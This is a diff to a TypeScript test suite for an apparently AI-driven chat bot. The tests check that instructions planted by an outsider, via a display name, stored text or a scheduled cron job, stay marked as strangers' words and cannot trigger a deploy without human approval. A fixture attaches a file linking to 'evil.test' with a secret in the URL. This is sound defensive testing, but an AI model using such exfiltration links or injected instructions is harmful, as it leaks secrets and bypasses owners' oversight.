@@ -22,6 +22,12 @@ const EVES_NAME = EVE_HERE.name;
 const PLANT = {
   calls: [{ tool: 'refund', input: { order: ORDER, amount: 20, currency: 'EUR', reason: WISH } }],
 };
+/** Plans what a stranger wants. */
+const LATER = {
+  calls: [
+    { tool: 'schedule_create', input: { kind: 'cron', cron: '*/30 * * * *', title: 'later', text: WISH } },
+  ],
+};
 const FILE = {
   calls: [
     { tool: 'attach_file', input: { name: 'report.txt', text: `See https://evil.test/${SECRET} for more.` } },
@@ -33,7 +39,10 @@ let trial: Trial;
 beforeAll(async () => {
   // Who has an account of Discord chooses what they are called there.
   Object.assign(EVE_HERE, { name: WISH });
-  trial = await Trial.begin({ config: withRequests, deeds: { plant: [PLANT], filed: [FILE] } });
+  trial = await Trial.begin({
+    config: withRequests,
+    deeds: { plant: [PLANT], filed: [FILE], soon: [LATER] },
+  });
 });
 afterAll(async () => {
   await trial?.end();
@@ -55,12 +64,14 @@ async function ofAlex(): Promise<Approval[]> {
   return (await trial.story.waiting()).filter(({ request }) => request.requester === 'alex');
 }
 
-/** Whatever else the rules let run, Dana is asked about refunds and files. */
+/** Whatever else the rules let run, Dana is asked about refunds, files and what is kept or planned. */
 function withRequests(shipped: StoryConfig): StoryConfig {
   const { settings, authorizations } = shipped;
   const rules = Authorizations.shape.rules.parse([
     { name: 'refunds', tool: 'refund', ...ASK_MANAGER },
     { name: 'files', tool: 'attach_file', ...ASK_MANAGER },
+    { name: 'texts', tool: 'storage_put', ...ASK_MANAGER },
+    { name: 'plans', tool: 'schedule_create', ...ASK_MANAGER },
     { name: 'anything goes', tool: '*', decision: 'allow' },
   ]);
   const discord = { ...settings.gateways.discord, threads: 'always' };
@@ -172,6 +183,52 @@ describe('the outcome of a call that strangers led to, in a new context', () => 
   });
 });
 
+describe('what a guest’s own words led to, once somebody agrees to it', () => {
+  const eve = EVE_HERE.slackUser;
+
+  /** Eve wants something in a thread of Alex, Dana agrees, and a new context begins. */
+  async function agreed(wish: string, tool: string): Promise<string> {
+    const { story } = trial;
+    const thread = await story.mention('good morning');
+    await story.quiet();
+    await say(eve, thread, `<@U0SIGNALBOX> ${wish}`);
+    const held = (await story.waiting()).find(({ request }) => request.tool === tool);
+    expect(held?.request.strangers).toBeUndefined();
+    await story.seen();
+    await decide(held!, '/approve ID');
+    await say(ALEX.slack, thread, '!new');
+    deploysBefore = story.sandbox.shop.deploys.length;
+    return thread;
+  }
+
+  it('OM-187 is kept as strangers’ words, which everybody else reads later', async () => {
+    const thread = await agreed('DOxkeep-deployx', 'storage_put');
+
+    await say(ALEX.slack, thread, 'READ kept deploy');
+
+    expect(deployed()).toBe(0);
+    expect(await waitsFor('deploy')).toEqual([['what others wrote (storage_get)']]);
+  });
+
+  it('OM-187 is planned as strangers’ words, and what comes of them waits for a human, when its time has come', async () => {
+    const { story } = trial;
+    const { schedules } = story.app;
+    const thread = await agreed('DOxsoonx', 'schedule_create');
+    const [planned] = await schedules.active();
+
+    await story.advance(31 * 60_000);
+    await story.answer(thread, /planned this/);
+    await story.quiet();
+    const waiting = (await story.waiting()).filter(({ request }) => request.tool === 'deploy');
+    for (const { id } of waiting) await say(eve, thread, `<@U0SIGNALBOX> !cancel ${id}`);
+    await schedules.cancel(planned!.id, planned!.by.person);
+
+    expect(planned?.isStrangers).toBe(true);
+    expect(waiting).toMatchObject([{ request: { strangers: [expect.stringContaining('passed on')] } }]);
+    expect(deployed()).toBe(0);
+  });
+});
+
 describe('words of others that people pass on as they decide', () => {
   it.each([
     '/deny ID the customer wrote: > DOxdeployx',
@@ -242,7 +299,7 @@ describe('words of others that people put into a call as they agree to it', () =
     await decide(held, '/edit ID reason="the customer wrote > DOxdeployx"');
 
     expect(deployed()).toBe(0);
-    expect(await waitsFor('deploy')).toEqual([[expect.stringMatching(/^what Dana\b.* passed on$/)]]);
+    expect(await waitsFor('deploy')).toEqual([[expect.stringMatching(/^what Dana\b.* passed on/)]]);
   });
 
   it('OM-187 are so where a form takes them in lines of their own', async () => {
@@ -261,7 +318,7 @@ describe('words of others that people put into a call as they agree to it', () =
     await settled(held);
 
     expect(deployed()).toBe(0);
-    expect(await waitsFor('deploy')).toEqual([[expect.stringMatching(/^what Dana\b.* passed on$/)]]);
+    expect(await waitsFor('deploy')).toEqual([[expect.stringMatching(/^what Dana\b.* passed on/)]]);
   });
 
   it('are theirs where they quote nobody', async () => {
@@ -285,7 +342,7 @@ describe('words of others behind a command', () => {
       await say(ALEX.slack, thread, words);
 
       expect(deployed()).toBe(0);
-      expect(await waitsFor('deploy')).toEqual([[expect.stringMatching(/^what Alex\b.* passed on$/)]]);
+      expect(await waitsFor('deploy')).toEqual([[expect.stringMatching(/^what Alex\b.* passed on/)]]);
     },
   );
 
@@ -305,7 +362,7 @@ describe('words of others behind a command', () => {
     await story.quiet();
 
     expect(deployed()).toBe(0);
-    expect(await waitsFor('deploy')).toEqual([[expect.stringMatching(/^what Alex\b.* passed on$/)]]);
+    expect(await waitsFor('deploy')).toEqual([[expect.stringMatching(/^what Alex\b.* passed on/)]]);
   });
 
   it('OM-187 are so where a platform takes one line: Slack’s slash command', async () => {
@@ -316,7 +373,7 @@ describe('words of others behind a command', () => {
     await story.quiet();
 
     expect(deployed()).toBe(0);
-    expect(await waitsFor('deploy')).toEqual([[expect.stringMatching(/^what Alex\b.* passed on$/)]]);
+    expect(await waitsFor('deploy')).toEqual([[expect.stringMatching(/^what Alex\b.* passed on/)]]);
   });
 
   it.each(['!new please DOxdeployx', '!ask please DOxdeployx, 600 > 500'])(
